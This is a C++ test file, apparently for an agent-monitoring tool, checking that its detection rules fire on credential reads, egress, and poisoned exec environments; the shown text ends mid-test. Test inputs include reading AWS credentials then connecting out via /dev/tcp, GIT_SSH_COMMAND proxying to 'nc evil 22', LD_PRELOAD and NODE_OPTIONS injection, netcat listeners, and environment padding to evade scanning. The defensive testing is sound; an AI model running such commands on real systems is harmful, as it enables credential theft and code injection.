// SPDX-License-Identifier: Apache-2.0
// The shipped rule packs against real processes in a real agent cgroup: every default rule is
// triggered by what it describes, and its first exception holds. The credential rules are
// driven by the pack itself, so a rule added to rules/credentials.yaml is tested without a new
// line here. Also: the exfiltration sequence, poisoned git, `vigil rules check` and reloads.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <thread>

#include "harness.h"
#include "policy/profile.h"
#include "policy/rules.h"

namespace vigil::test {
namespace {

namespace fs = std::filesystem;

std::string rules_dir()
{
  return env_or("VIGIL_RULES_DIR", VG_SOURCE_DIR "/rules");
}

// A concrete file name a pattern matches: every wildcard becomes "x".
std::string concrete(std::string pattern)
{
  std::string out;
  for (size_t i = 0; i < pattern.size(); ++i) {
    if (pattern[i] == '*') {
      while (i + 1 < pattern.size() && pattern[i + 1] == '*')
        ++i;
      out += 'x';
    } else if (pattern[i] == '?') {
      out += 'x';
    } else {
      out += pattern[i];
    }
  }
  return out;
}

class RulesTest : public ::testing::Test {
protected:
  void SetUp() override
  {
    VG_REQUIRE_ROOT();
    home_ = tmp_.path() + "/home";
    work_ = tmp_.path() + "/work";
    bin_ = tmp_.path() + "/bin";
    fs::create_directories(home_);
    fs::create_directories(work_);
    fs::create_directories(bin_);
    alerts_ = tmp_ / "alerts.jsonl";
    // Observe only: files and connects go through so each rule sees the real operation.
    profile_ = tmp_ / "profile.yaml";
    write_file(profile_, "profile: pack-test\nmode: audit\negress:\n  allow: [127.0.0.1/32, "
                         "\"::1/128\"]\n");
    auto set = policy::load_rules({rules_dir()});
    ASSERT_TRUE(set) << set.error().message();
    rules_ = std::move(*set);
  }

  const policy::Rule &rule(const std::string &id) const
  {
    for (const auto &r : rules_.rules)
      if (r.id == id)
        return r;
    throw std::runtime_error("no rule " + id);
  }

  std::string path_for(const std::string &pattern) const
  {
    if (pattern.starts_with("~/"))
      return home_ + concrete(pattern.substr(1));
    if (pattern.starts_with("/"))
      return concrete(pattern);
    return work_ + "/" + concrete(pattern);
  }

  // A copy of a system binary under bin_, named `name`: exe-based exceptions see that name.
  std::string tool(const std::string &name, const std::string &from = "/usr/bin/cat")
  {
    const std::string dst = bin_ + "/" + concrete(name);
    fs::copy_file(from, dst, fs::copy_options::overwrite_existing);
    fs::permissions(dst, fs::perms::owner_all);
    return dst;
  }

  ProcResult agent(const std::string &script, const std::vector<std::string> &extra = {},
                   const std::string &profile = "")
  {
    std::vector<std::string> argv{vigil_bin(), "run", "--alerts-json", alerts_, "--profile",
                                  profile.empty() ? profile_ : profile, "--rules", rules_dir()};
    argv.insert(argv.end(), extra.begin(), extra.end());
    argv.insert(argv.end(), {"--", "bash", "-c", script});
    return run(argv, {"HOME=" + home_}, std::chrono::seconds(120));
  }

  std::vector<nlohmann::json> alerts(const std::string &rule) const
  {
    std::vector<nlohmann::json> out;
    for (auto &a : read_json_lines(alerts_))
      if (a["rule"] == rule)
        out.push_back(a);
    return out;
  }
  std::set<std::string> rules_fired() const
  {
    std::set<std::string> out;
    for (auto &a : read_json_lines(alerts_))
      out.insert(a["rule"].get<std::string>());
    return out;
  }
  void reset_alerts() { fs::remove(alerts_); }

  TempDir tmp_;
  std::string home_, work_, bin_, alerts_, profile_;
  policy::RuleSet rules_;
  std::vector<std::string> created_; // files made outside the temp dir
};

TEST_F(RulesTest, every_credential_rule_fires_on_its_file_and_its_first_exception_holds)
{
  std::map<std::string, std::string> trigger; // rule -> file
  std::string script, except_script;
  std::vector<std::string> cleanup;
  for (const auto &r : rules_.rules) {
    if (r.kind != policy::RuleKind::credential_read || r.paths.empty())
      continue;
    const std::string file = path_for(r.paths[0]);
    policy::PathMatcher self_check({r.paths[0]}, home_);
    ASSERT_TRUE(self_check.match(file)) << r.id << ": " << file << " does not match its pattern";
    if (!fs::exists(file)) {
      fs::create_directories(fs::path(file).parent_path());
      write_file(file, "canary " + r.id + "\n");
      if (!file.starts_with(tmp_.path()))
        cleanup.push_back(file);
    }
    trigger[r.id] = file;
    script += "cat '" + file + "' >/dev/null; ";
    ASSERT_FALSE(r.exceptions.empty()) << r.id << " has no exception to test";
    const policy::RuleException &ex = r.exceptions[0];
    std::string ex_file = ex.paths.empty() ? file : path_for(ex.paths[0]);
    if (!ex.paths.empty() && !fs::exists(ex_file)) {
      fs::create_directories(fs::path(ex_file).parent_path());
      write_file(ex_file, "excepted " + r.id + "\n");
    }
    const std::string reader = ex.proc.exe.empty() ? std::string("cat") : tool(ex.proc.exe[0]);
    except_script += "'" + reader + "' '" + ex_file + "' >/dev/null; ";
  }
  ASSERT_GE(trigger.size(), 15u) << "the credential pack shrank";

  ProcResult r = agent(script + "true");
  EXPECT_EQ(r.status, 0) << r.err;
  for (const auto &[id, file] : trigger) {
    auto found = alerts(id);
    ASSERT_EQ(found.size(), 1u) << id << " on " << file << "\n" << r.err;
    EXPECT_EQ(found[0]["path"], fs::canonical(file).string()) << "the kernel names the real file";
    EXPECT_EQ(found[0]["comm"], "cat");
    EXPECT_EQ(found[0]["severity"], policy::to_string(rule(id).severity));
    EXPECT_FALSE(found[0]["tags"].empty()) << found[0].dump();
    EXPECT_EQ(found[0]["ancestry"][0]["argv"][0], "bash") << "ancestry up to the agent's root";
  }

  reset_alerts();
  r = agent(except_script + "true");
  EXPECT_EQ(r.status, 0) << r.err;
  for (const auto &[id, file] : trigger)
    EXPECT_TRUE(alerts(id).empty()) << id << "'s exception did not hold:\n"
                                    << read_file(alerts_);
  for (const auto &f : cleanup)
    fs::remove(f);
}

TEST_F(RulesTest, profile_fallback_names_files_no_pack_rule_knows_and_pub_keys_are_excepted)
{
  const std::string secret = work_ + "/project-secret.txt", pub = work_ + "/deploy.pub";
  write_file(secret, "s\n");
  write_file(pub, "ssh-ed25519 AAAA\n");
  const std::string profile = tmp_ / "protect.yaml";
  write_file(profile, "profile: protect\ncredentials:\n  paths: [" + secret + ", " + pub +
                          "]\negress:\n  allow: [127.0.0.1/32]\n");
  ProcResult r = agent("cat " + secret + "; cat " + pub + "; true", {}, profile);
  EXPECT_EQ(r.status, 0) << r.err;
  auto found = alerts("credential-read");
  ASSERT_EQ(found.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(found[0]["path"], secret);
  EXPECT_EQ(found[0]["verdict"], "denied");
  EXPECT_NE(r.err.find(pub + ": Operation not permitted"), std::string::npos)
      << "the exception silences the alert, not the kernel's denial\n"
      << r.err;
}

TEST_F(RulesTest, exfiltration_sequence_fires_for_egress_outside_the_allowlist_only)
{
  const std::string canary = home_ + "/.aws/credentials";
  write_file(canary, "aws_secret_access_key = canary\n");
  // Default profile: the read is denied, the connect to 127.0.0.2 too; both are attempts.
  ProcResult r = run({vigil_bin(), "run", "--alerts-json", alerts_, "--", "bash", "-c",
                      "cat ~/.aws/credentials; (exec 3<>/dev/tcp/127.0.0.2/9) 2>/dev/null; true"},
                     {"HOME=" + home_});
  EXPECT_EQ(r.status, 0) << r.err;
  auto seq = alerts("exfil-credential-then-egress");
  ASSERT_EQ(seq.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(seq[0]["severity"], "critical");
  EXPECT_EQ(seq[0]["destination"]["ip"], "127.0.0.2");
  const std::string out = seq[0]["output"];
  EXPECT_NE(out.find(canary), std::string::npos) << out;
  EXPECT_NE(out.find("127.0.0.2:9"), std::string::npos) << out;

  // The same read, then a connect the allowlist permits: no exfiltration.
  reset_alerts();
  const int port = free_port();
  Proc listener({netprobe_bin(), "listen", "127.0.0.1", std::to_string(port)});
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  r = run({vigil_bin(), "run", "--alerts-json", alerts_, "--", "bash", "-c",
           "cat ~/.aws/credentials; exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(port) +
               " && echo connected"},
          {"HOME=" + home_});
  listener.signal(SIGKILL);
  EXPECT_EQ(r.out, "connected\n") << r.err;
  EXPECT_EQ(alerts("cred-aws").size(), 1u) << read_file(alerts_);
  EXPECT_TRUE(alerts("exfil-credential-then-egress").empty()) << read_file(alerts_);
  EXPECT_TRUE(alerts("egress-not-allowed").empty()) << read_file(alerts_);
}

TEST_F(RulesTest, poisoned_git_alerts_and_plain_git_does_not)
{
  ProcResult r = agent("git --version >/dev/null; "
                       "GIT_SSH_COMMAND='ssh -oProxyCommand=\"nc evil 22\"' git --version "
                       ">/dev/null; true");
  EXPECT_EQ(r.status, 0) << r.err;
  auto found = alerts("exec-git-ssh-command");
  ASSERT_EQ(found.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(found[0]["exe"], "/usr/bin/git");
  ASSERT_EQ(found[0]["env"].size(), 1u);
  EXPECT_EQ(found[0]["env"][0], "GIT_SSH_COMMAND=ssh -oProxyCommand=\"nc evil 22\"");
  EXPECT_EQ(rules_fired(), std::set<std::string>{"exec-git-ssh-command"})
      << "the plain git raised nothing: " << read_file(alerts_);
}

TEST_F(RulesTest, every_exec_context_rule_fires_and_its_exception_holds)
{
  // rule -> (poisoned command, excepted command)
  const std::map<std::string, std::pair<std::string, std::string>> cases = {
      {"exec-ld-preload",
       {"env LD_PRELOAD=/tmp/evil.so /usr/bin/true",
        "env LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so /usr/bin/true"}},
      {"exec-ld-library-path",
       {"env LD_LIBRARY_PATH=/tmp/evil /usr/bin/true",
        "env LD_LIBRARY_PATH=/usr/lib/custom /usr/bin/true"}},
      {"exec-git-ssh-command",
       {"env GIT_PROXY_COMMAND=/tmp/p git --version",
        "env GIT_ASKPASS=/root/.vscode-server/bin/abc/extensions/git/dist/askpass.sh git "
        "--version"}},
      {"exec-git-config-env",
       {"env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=/tmp/x git "
        "--version",
        "env GIT_CONFIG_NOSYSTEM=1 git --version"}},
      {"exec-shell-startup-env",
       {"env BASH_ENV=/tmp/evil.sh /usr/bin/true",
        "env PROMPT_COMMAND=__vte_prompt_command /usr/bin/true"}},
      {"exec-interpreter-injection",
       {"env NODE_OPTIONS='--require /tmp/evil.js' /usr/bin/true",
        "env NODE_OPTIONS=--max-old-space-size=4096 /usr/bin/true"}},
      // 5000 variables take more reads than the kernel's scan budget.
      {"exec-env-oversized",
       {"env $(seq -f 'PAD%g=x' 1 5000) /usr/bin/true",
        "env $(seq -f 'PAD%g=x' 1 5000) " + tool("make", "/usr/bin/true")}},
  };
  size_t exec_rules = 0;
  for (const auto &r : rules_.rules)
    exec_rules += r.kind == policy::RuleKind::exec_context ? 1 : 0;
  ASSERT_EQ(cases.size(), exec_rules) << "a default exec_context rule has no test here";

  std::string poisoned, excepted;
  for (const auto &[id, c] : cases) {
    poisoned += c.first + " >/dev/null 2>&1; ";
    excepted += c.second + " >/dev/null 2>&1; ";
  }
  ProcResult r = agent(poisoned + "true");
  EXPECT_EQ(r.status, 0) << r.err;
  for (const auto &[id, c] : cases)
    EXPECT_EQ(alerts(id).size(), 1u) << id << ": " << c.first << "\n" << read_file(alerts_);

  reset_alerts();
  r = agent(excepted + "true");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(rules_fired().empty()) << read_file(alerts_);
}

TEST_F(RulesTest, environment_padding_neither_hides_a_variable_nor_goes_unreported)
{
  // 2000 short variables before LD_PRELOAD: within the scan budget, so it is found.
  // 3000 long ones (two reads each): past it, so the exec is reported as unscannable.
  ProcResult r = agent("env $(seq -f 'PAD%g=x' 1 2000) LD_PRELOAD=/tmp/evil.so /usr/bin/true; "
                       "env $(seq -f \"LONG%g=$(printf 'y%.0s' $(seq 300))\" 1 3000) "
                       "LD_PRELOAD=/tmp/evil.so /usr/bin/true; true");
  EXPECT_EQ(r.status, 0) << r.err;
  auto preload = alerts("exec-ld-preload");
  ASSERT_GE(preload.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(preload[0]["env"][0], "LD_PRELOAD=/tmp/evil.so");
  EXPECT_EQ(alerts("exec-env-oversized").size(), 1u) << read_file(alerts_);
}

TEST_F(RulesTest, package_install_rules_fire_under_an_install_script_and_exceptions_hold)
{
  // An install script as npm runs it: the package manager's argv names "install".
  write_file(bin_ + "/npm", "#!/bin/sh\nsh -c 'echo lifecycle' >/dev/null\n"
                            "curl --version >/dev/null\n");
  write_file(bin_ + "/npm-ok", "#!/bin/sh\nsh -c 'node-gyp rebuild || true' 2>/dev/null\n"
                               "curl -s --max-time 1 https://registry.npmjs.org/x >/dev/null "
                               "|| true\n");
  fs::permissions(bin_ + "/npm", fs::perms::owner_all);
  fs::permissions(bin_ + "/npm-ok", fs::perms::owner_all);
  // Scripts run from files, so no ancestor's argv spells "install" but the package manager's.
  write_file(tmp_ / "go.sh", bin_ + "/npm install\n");
  write_file(tmp_ / "go-ok.sh", bin_ + "/npm-ok install\n");

  ProcResult r = agent("sh " + tmp_.path() + "/go.sh");
  EXPECT_EQ(r.status, 0) << r.err;
  auto shells = alerts("proc-shell-in-package-install");
  ASSERT_GE(shells.size(), 1u) << read_file(alerts_);
  bool lifecycle = false;
  for (const auto &a : shells)
    lifecycle |= a["argv"] == nlohmann::json::array({"sh", "-c", "echo lifecycle"});
  EXPECT_TRUE(lifecycle) << read_file(alerts_);
  auto curl = alerts("proc-network-tool-in-package-install");
  ASSERT_EQ(curl.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(curl[0]["exe"], "/usr/bin/curl");
  bool names_npm = false;
  for (const auto &p : curl[0]["ancestry"])
    for (const auto &arg : p["argv"])
      names_npm |= arg.get<std::string>() == bin_ + "/npm";
  EXPECT_TRUE(names_npm) << "the ancestry shows the install script: " << curl[0].dump();

  reset_alerts();
  r = agent("sh " + tmp_.path() + "/go-ok.sh");
  EXPECT_EQ(r.status, 0) << r.err;
  for (const auto &a : alerts("proc-shell-in-package-install"))
    EXPECT_NE(a["argv"], nlohmann::json::array({"sh", "-c", "node-gyp rebuild || true"}))
        << "node-gyp is excepted";
  EXPECT_TRUE(alerts("proc-network-tool-in-package-install").empty()) << read_file(alerts_);
}

TEST_F(RulesTest, netcat_alerts_and_a_port_check_does_not)
{
  const std::string nc = tool("nc", "/usr/bin/true");
  ProcResult r = agent(nc + " -l -p 4444; " + nc + " -z 127.0.0.1 80; true");
  EXPECT_EQ(r.status, 0) << r.err;
  auto found = alerts("proc-netcat");
  ASSERT_EQ(found.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(found[0]["argv"], nlohmann::json::array({nc, "-l", "-p", "4444"}));
}

TEST_F(RulesTest, cloud_metadata_egress_alerts_unless_the_cloud_agent_connects)
{
  const std::string agent_tool = tool("cloud-init", netprobe_bin());
  ProcResult r = agent(std::string(netprobe_bin()) + " udpconn 169.254.169.254 80; " +
                       agent_tool + " udpconn 169.254.169.254 80; true");
  EXPECT_EQ(r.status, 0) << r.err;
  auto found = alerts("egress-cloud-metadata");
  ASSERT_EQ(found.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(found[0]["destination"]["ip"], "169.254.169.254");
  EXPECT_EQ(found[0]["exe"], netprobe_bin());
  // The exception silences the specific rule only: the excepted connect is still outside the
  // allowlist, and the fallback says so. Netprobe's connect is named by the specific rule alone.
  auto outside = alerts("egress-not-allowed");
  ASSERT_EQ(outside.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(outside[0]["exe"], agent_tool);
}

// DNS to a server that is not the profile's resolver is a channel out like any other: no
// exception for port 53.
TEST_F(RulesTest, egress_outside_allowlist_alerts_dns_to_any_server_too)
{
  ProcResult r = agent(std::string(netprobe_bin()) + " udpconn 127.0.0.2 53; " + netprobe_bin() +
                       " udpconn 127.0.0.2 54; true");
  EXPECT_EQ(r.status, 0) << r.err;
  auto found = alerts("egress-not-allowed");
  ASSERT_EQ(found.size(), 2u) << read_file(alerts_);
  EXPECT_EQ(found[0]["destination"]["port"], 53);
  EXPECT_EQ(found[1]["destination"]["port"], 54);
}

TEST_F(RulesTest, new_destination_alerts_after_learning_and_the_baseline_persists)
{
  // A baseline learned two days ago: netprobe used 192.0.2.1:443.
  const std::string state = tmp_ / "state";
  fs::create_directories(state + "/baseline");
  const uint64_t two_days_ago =
      static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::nanoseconds>(
                                std::chrono::system_clock::now().time_since_epoch())
                                .count()) -
      2ull * 86400 * 1000000000ull;
  nlohmann::json baseline = {
      {"learning_started_ns", two_days_ago},
      {"entries", {{{"exe", netprobe_bin()}, {"ip", "192.0.2.1"}, {"port", 443}}}}};
  write_file(state + "/baseline/pack-test.json", baseline.dump());
  const std::string probe = netprobe_bin();
  ProcResult r = agent(probe + " udpconn 192.0.2.1 443; " + probe + " udpconn 192.0.2.2 443; " +
                           probe + " udpconn 192.0.2.2 443; " + probe +
                           " udpconn 127.0.0.3 9; true",
                       {"--state-dir", state});
  EXPECT_EQ(r.status, 0) << r.err;
  auto found = alerts("egress-new-destination");
  ASSERT_EQ(found.size(), 1u) << "known, new (once), new again, loopback (excepted)\n"
                              << read_file(alerts_);
  EXPECT_EQ(found[0]["destination"]["ip"], "192.0.2.2");

  // A restart remembers what it learned.
  auto saved = nlohmann::json::parse(read_file(state + "/baseline/pack-test.json"));
  EXPECT_EQ(saved["entries"].size(), 3u) << saved.dump() << " (192.0.2.1, 192.0.2.2, 127.0.0.3)";
  reset_alerts();
  r = agent(probe + " udpconn 192.0.2.2 443; true", {"--state-dir", state});
  EXPECT_TRUE(alerts("egress-new-destination").empty()) << read_file(alerts_);
}

// A second local address (on lo, outside 127.0.0.0/8): traffic to it leaves through the agent's
// egress hook like any destination's, but never leaves the machine.
class LocalAddress {
public:
  LocalAddress()
  {
    addr_ = "10.199." + std::to_string(::getpid() % 250) + ".1";
    ok_ = run({"ip", "addr", "add", addr_ + "/32", "dev", "lo"}).status == 0;
  }
  ~LocalAddress()
  {
    if (ok_)
      run({"ip", "addr", "del", addr_ + "/32", "dev", "lo"});
  }
  bool ok() const { return ok_; }
  const std::string &addr() const { return addr_; }

private:
  std::string addr_;
  bool ok_ = false;
};

// Accepts connections and reads everything, so a sender's bytes all go out.
class Sink {
public:
  explicit Sink(const std::string &addr)
  {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    ::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr);
    if (::bind(fd_, reinterpret_cast<sockaddr *>(&sa), sizeof(sa)) != 0 || ::listen(fd_, 8) != 0)
      return;
    socklen_t len = sizeof(sa);
    ::getsockname(fd_, reinterpret_cast<sockaddr *>(&sa), &len);
    port_ = ntohs(sa.sin_port);
    thread_ = std::thread([this] {
      while (!stop_) {
        int c = ::accept(fd_, nullptr, nullptr);
        if (c < 0)
          return;
        char buf[65536];
        while (::read(c, buf, sizeof(buf)) > 0) {
        }
        ::close(c);
      }
    });
  }
  ~Sink()
  {
    stop_ = true;
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    if (thread_.joinable())
      thread_.join();
  }
  int port() const { return port_; }

private:
  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

TEST_F(RulesTest, egress_volume_counts_bytes_in_the_kernel_and_alerts_over_the_threshold)
{
  LocalAddress dummy;
  ASSERT_TRUE(dummy.ok()) << "ip addr add ... dev lo failed";
  Sink far(dummy.addr()), near("127.0.0.1");
  ASSERT_GT(far.port(), 0);
  ASSERT_GT(near.port(), 0);
  // 60 MB (57 MiB) to one destination within the 60 s window; the same to loopback (excepted).
  ProcResult r = agent("head -c 60000000 /dev/zero > /dev/tcp/" + dummy.addr() + "/" +
                       std::to_string(far.port()) + " && head -c 60000000 /dev/zero > " +
                       "/dev/tcp/127.0.0.1/" + std::to_string(near.port()) + " && echo sent");
  EXPECT_EQ(r.out, "sent\n") << r.err;
  auto found = alerts("egress-volume");
  ASSERT_EQ(found.size(), 1u) << read_file(alerts_);
  EXPECT_EQ(found[0]["destination"]["ip"], dummy.addr());
  EXPECT_GE(found[0]["bytes"].get<uint64_t>(), 50ull << 20) << found[0].dump();
  EXPECT_EQ(found[0]["event"], "egress_volume");
}

TEST_F(RulesTest, rules_check_reports_every_mistake_with_its_line)
{
  const std::string bad = tmp_ / "bad.yaml";
  write_file(bad, "rules:\n"                                   // 1
                  "  - id: one\n"                              // 2
                  "    description: bad severity\n"            // 3
                  "    kind: credential_read\n"                // 4
                  "    severity: loud\n"                       // 5
                  "    paths: [~/.aws/credentials]\n"          // 6
                  "  - id: two\n"                              // 7
                  "    description: unknown kind\n"            // 8
                  "    kind: telepathy\n"                      // 9
                  "    severity: error\n"                      // 10
                  "  - id: three\n"                            // 11
                  "    description: malformed destination\n"   // 12
                  "    kind: egress\n"                         // 13
                  "    severity: error\n"                      // 14
                  "    match: destinations\n"                  // 15
                  "    destinations: [10.0.0.0/33]\n");        // 16
  ProcResult r = run({vigil_bin(), "rules", "check", bad});
  EXPECT_EQ(r.status, 1);
  EXPECT_NE(r.err.find(bad + ":5:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("severity"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(bad + ":9:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("telepathy"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(bad + ":16:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("33"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("3 error(s)"), std::string::npos) << r.err;

  ProcResult ok = run({vigil_bin(), "rules", "check", rules_dir()});
  EXPECT_EQ(ok.status, 0) << ok.err;
  EXPECT_NE(ok.out.find("ok: "), std::string::npos) << ok.out;
}

// The daemon reloads rules and profiles when their files change and on SIGHUP; a broken file
// leaves the old set in force (shown by an alert that still comes), raises an alert and counts.
class ReloadTest : public ::testing::Test {
protected:
  void SetUp() override
  {
    VG_REQUIRE_ROOT();
    root_ = cgroup2_mount() + "/vigil-reload-" + std::to_string(::getpid());
    fs::create_directories(root_ + "/agent");
    canary_ = tmp_ / "canary.txt";
    write_file(canary_, "c\n");
    rules_ = tmp_ / "rules.yaml";
    write_rules("canary-v1");
    profile_ = tmp_ / "profile.yaml";
    write_profile("127.0.0.1/32");
    alerts_ = tmp_ / "alerts.jsonl";
    metrics_ = "127.0.0.1:" + std::to_string(free_port());
    pins_ = "/sys/fs/bpf/vigil-reload-" + std::to_string(::getpid());
    write_file(tmp_ / "vigil.yaml", "profiles: [profile.yaml]\nrules: [rules.yaml]\n"
                                    "cgroups:\n  - path: /vigil-reload-" +
                                        std::to_string(::getpid()) +
                                        "/agent\n    profile: reload-test\nalerts_json: " +
                                        alerts_ + "\nmetrics_address: " + metrics_ +
                                        "\nrescan_ms: 100\npin_dir: \"\"\nstate_dir: \"\"\n");
  }
  void TearDown() override
  {
    if (root_.empty())
      return;
    std::error_code ec;
    fs::remove(root_ + "/agent", ec);
    fs::remove(root_, ec);
  }
  void write_rules(const std::string &id)
  {
    write_file(rules_, "rules:\n  - id: " + id +
                           "\n    description: canary read\n    kind: credential_read\n"
                           "    severity: critical\n    tags: [T1552]\n    paths: [" +
                           canary_ + "]\n");
  }
  void write_profile(const std::string &allow)
  {
    write_file(profile_, "profile: reload-test\nmode: enforce\negress:\n  allow: [" + allow +
                             "]\n");
  }
  // Runs script in the agent cgroup and returns its stdout.
  std::string in_agent(const std::string &script)
  {
    return run({"sh", "-c", "echo $$ > " + root_ + "/agent/cgroup.procs && " + script}).out;
  }
  size_t count(const std::string &rule)
  {
    size_t n = 0;
    for (auto &a : read_json_lines(alerts_))
      n += a["rule"] == rule ? 1 : 0;
    return n;
  }
  bool wait_count(const std::string &rule, size_t n)
  {
    for (int i = 0; i < 100; ++i) {
      if (count(rule) >= n)
        return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    return false;
  }

  TempDir tmp_;
  std::string root_, canary_, rules_, profile_, alerts_, metrics_, pins_;
};

TEST_F(ReloadTest, broken_files_keep_the_old_policy_and_good_ones_swap_in_kernel_maps_included)
{
  Proc daemon({vigil_bin(), "daemon", "--config", tmp_ / "vigil.yaml"});
  ASSERT_TRUE(daemon.wait_for_err("confining " + root_ + "/agent")) << daemon.err_so_far();
  in_agent("cat " + canary_ + " >/dev/null");
  ASSERT_TRUE(wait_count("canary-v1", 1)) << read_file(alerts_) << daemon.err_so_far();

  // A broken rule file: the reload fails, says so, and the old rule keeps alerting.
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  write_file(rules_, "rules:\n  - id: canary-v2\n    description: x\n    kind: credential_read\n"
                     "    severity: apocalyptic\n    paths: [" + canary_ + "]\n");
  ASSERT_TRUE(wait_count("vigil-policy-reload-failed", 1)) << daemon.err_so_far();
  EXPECT_TRUE(daemon.wait_for_err("previous policy stays in force")) << daemon.err_so_far();
  EXPECT_NE(daemon.err_so_far().find(rules_ + ":5:"), std::string::npos) << daemon.err_so_far();
  in_agent("cat " + canary_ + " >/dev/null");
  EXPECT_TRUE(wait_count("canary-v1", 2)) << "the old rule still works after the bad reload\n"
                                          << read_file(alerts_);
  const std::string metrics = http_get(metrics_, "/metrics");
  EXPECT_NE(metrics.find("vigil_rule_reload_failures_total 1"), std::string::npos) << metrics;

  // A good file: swapped in on SIGHUP as well as on change.
  write_rules("canary-v2");
  daemon.signal(SIGHUP);
  ASSERT_TRUE(daemon.wait_for_err("policy reloaded")) << daemon.err_so_far();
  in_agent("cat " + canary_ + " >/dev/null");
  EXPECT_TRUE(wait_count("canary-v2", 1)) << read_file(alerts_);
  EXPECT_EQ(count("canary-v1"), 2u);

  // A profile change reaches the kernel: 127.0.0.7 is denied, then allowed.
  const std::string probe = std::string(netprobe_bin()) + " udpconn 127.0.0.7 9";
  EXPECT_EQ(in_agent(probe), "EPERM\n");
  write_profile("127.0.0.1/32, 127.0.0.7/32");
  ASSERT_TRUE(wait_count("canary-v2", 1));
  for (int i = 0; i < 100 && in_agent(probe) != "ok\n"; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  EXPECT_EQ(in_agent(probe), "ok\n") << daemon.err_so_far();
  daemon.signal(SIGTERM);
  EXPECT_EQ(daemon.wait().status, 0);
}

} // namespace
} // namespace vigil::test

namespace vigil::test {
namespace {

// The incident responder's path: a recorded `vigil run` replays to the alerts it raised live;
// with an extra rule it also raises that rule's alert; a damaged record is skipped, not fatal.
TEST_F(RulesTest, replay_of_a_recorded_run_gives_the_live_alerts_and_new_rules_add_theirs)
{
  write_file(home_ + "/.aws/credentials", "aws_secret_access_key = canary\n");
  const std::string log = tmp_ / "log";
  ProcResult r = run({vigil_bin(), "run", "--log-dir", log, "--alerts-json", alerts_, "--",
                      "bash", "-c",
                      "cat ~/.aws/credentials; sleep 0.3; (exec 3<>/dev/tcp/127.0.0.2/9); "
                      "sleep 0.3; GIT_SSH_COMMAND=x git --version; cat /etc/hostname"},
                     {"HOME=" + home_});
  ASSERT_EQ(r.status, 0) << r.err;
  auto key = [](const nlohmann::json &a) {
    return a["rule"].get<std::string>() + " " + std::to_string(a["pid"].get<int>()) + " " +
           a["output"].get<std::string>();
  };
  std::multiset<std::string> live;
  for (const auto &a : read_json_lines(alerts_))
    live.insert(key(a));
  ASSERT_EQ(live.size(), 4u) << read_file(alerts_);

  auto replay = [&](const std::vector<std::string> &extra) {
    std::vector<std::string> argv{vigil_bin(), "replay", log, "--format", "json"};
    argv.insert(argv.end(), extra.begin(), extra.end());
    ProcResult p = run(argv);
    EXPECT_EQ(p.status, 0) << p.err;
    std::multiset<std::string> out;
    std::istringstream lines(p.out);
    for (std::string line; std::getline(lines, line);)
      out.insert(key(nlohmann::json::parse(line)));
    return std::make_pair(out, p.err);
  };
  auto [same, err] = replay({});
  EXPECT_EQ(same, live) << err;

  const std::string extra = tmp_ / "extra.yaml";
  write_file(extra, "rules:\n  - id: hostname-read\n    description: host name read\n"
                    "    kind: credential_read\n    severity: notice\n    tags: [T1082]\n"
                    "    paths: [/etc/hostname]\n");
  auto [more, err2] = replay({"--rules", rules_dir(), "--rules", extra});
  EXPECT_EQ(more.size(), live.size() + 1) << err2;
  size_t hostname = 0;
  for (const auto &k : more)
    hostname += k.starts_with("hostname-read ") ? 1 : 0;
  EXPECT_EQ(hostname, 1u);

  // The timeline shows the tree and the alerts in order.
  ProcResult t = run({vigil_bin(), "replay", log, "--format", "timeline"});
  EXPECT_EQ(t.status, 0) << t.err;
  const size_t exec_cat = t.out.find("exec /usr/bin/cat");
  const size_t alert_cat = t.out.find("!! critical cred-aws");
  const size_t exec_git = t.out.find("exec /usr/bin/git [git --version] GIT_SSH_COMMAND=x");
  EXPECT_NE(exec_cat, std::string::npos) << t.out;
  EXPECT_LT(exec_cat, alert_cat) << t.out;
  EXPECT_LT(alert_cat, exec_git) << t.out;

  // One flipped byte mid-segment: reported, skipped, the rest replays.
  auto segs = std::vector<fs::path>();
  for (const auto &e : fs::directory_iterator(log))
    if (e.path().extension() == ".vglog")
      segs.push_back(e.path());
  ASSERT_FALSE(segs.empty());
  {
    std::fstream f(segs[0], std::ios::in | std::ios::out | std::ios::binary);
    const auto size = static_cast<std::streamoff>(fs::file_size(segs[0]));
    f.seekg(size / 2);
    char c = 0;
    f.read(&c, 1);
    c = static_cast<char>(c ^ 0x40);
    f.seekp(size / 2);
    f.write(&c, 1);
  }
  ProcResult damaged = run({vigil_bin(), "replay", log, "--format", "json"});
  EXPECT_EQ(damaged.status, 0) << damaged.err;
  EXPECT_NE(damaged.err.find("skipped"), std::string::npos) << damaged.err;
